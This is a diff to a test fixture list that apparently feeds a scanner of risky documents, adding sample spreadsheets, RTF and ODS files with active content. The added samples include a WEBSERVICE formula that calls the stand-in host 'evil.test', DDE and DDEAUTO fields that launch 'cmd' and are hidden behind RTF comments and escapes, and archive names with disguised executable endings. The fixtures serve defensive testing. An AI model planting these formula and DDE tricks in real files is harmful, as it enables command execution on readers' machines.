@@ -32,6 +32,23 @@ export const activeDocuments: readonly Made[] = [
     () => xlsxOf(WORDS, { 'XL/MacroSheets/sheet1.xml': '<a/>' }),
   ],
   [
+    'a sheet with a formula that fetches',
+    'lijst.xlsx',
+    () =>
+      xlsxOf(WORDS, {
+        'xl/worksheets/sheet1.xml':
+          '<a><c><f>IF(1,_xlfn.WEBSERVICE("https://evil.test"),2)</f></c></a>',
+      }),
+  ],
+  [
+    'an open sheet with a formula that asks another program',
+    'lijst.ods',
+    () =>
+      odfOf('spreadsheet', {
+        'styles.xml': '<a><table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;1;2)"/></a>',
+      }),
+  ],
+  [
     'a show with a video from elsewhere',
     'ik.pptx',
     () =>
@@ -100,6 +117,16 @@ export const activeDocuments: readonly Made[] = [
     () => rtf('{\\field{\\*\\fldinst {DDE}{\\b AUTO cmd}}{\\fldrslt x}}'),
   ],
   [
+    'rich text with DDEAUTO around what readers skip',
+    'brief.rtf',
+    () => rtf('{\\field{\\*\\fldinst DDE{\\*\\x x}AUTO cmd}}'),
+  ],
+  [
+    'rich text with DDEAUTO around a comment',
+    'brief.rtf',
+    () => rtf('{\\field{\\*\\fldinst DDE{\\comment x}AUTO cmd}}'),
+  ],
+  [
     'rich text with DDEAUTO in codes',
     'brief.rtf',
     () => rtf("{\\field{\\*\\fldinst \\'44\\'44E\\u65?UTO cmd}}"),
@@ -163,7 +190,10 @@ export const activeDocuments: readonly Made[] = [
     'lijst.xls',
     () => oleOf(['Workbook', book([0x809, Buffer.alloc(16)], [0x2f, Buffer.alloc(6)])]),
   ],
-  ...['exe', 'js', 'lnk', 'EXE', 'vbs', 'bat', 'docm'].map((ending): Made => [
+  ...[
+    ...['exe', 'js', 'lnk', 'EXE', 'vbs', 'bat', 'docm', 'lnk.', 'exe. .', 'exe:a', 'iqy', 'xll'],
+    ...['settingcontent-ms', 'appref-ms', 'msc', 'py'],
+  ].map((ending): Made => [
     `an archive with a ${ending}`,
     'map.zip',
     () => zipOf({ 'brief.txt': WORDS, [`map/cv.${ending}`]: 'x' }),
